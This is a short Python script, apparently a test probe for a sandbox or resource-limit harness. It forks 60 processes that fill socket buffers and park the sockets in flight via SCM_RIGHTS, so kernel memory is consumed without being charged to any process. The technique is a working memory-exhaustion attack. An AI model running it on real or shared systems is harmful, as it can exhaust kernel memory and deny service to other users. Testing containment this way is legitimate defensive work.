# ends: memory 0
# What waits was written by sockets that are closed, and as many as the kernel allows are on their way through one more
# socket: no process has them among its open files.
import array
import os
import socket
import time

from escape import *

tried()
for _ in range(60):
    if os.fork() == 0:
        carrier, other = socket.socketpair()
        held = []
        while True:
            try:
                one, two = socket.socketpair()
            except OSError:
                break
            one.setblocking(False)
            try:
                while True:
                    one.send(b"x" * 4096)
            except OSError:
                pass
            one.close()
            try:
                carrier.sendmsg([b"."], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [two.fileno()]))])
                two.close()
            except OSError:
                held.append(two)
        time.sleep(60)
        os._exit(0)
time.sleep(60)
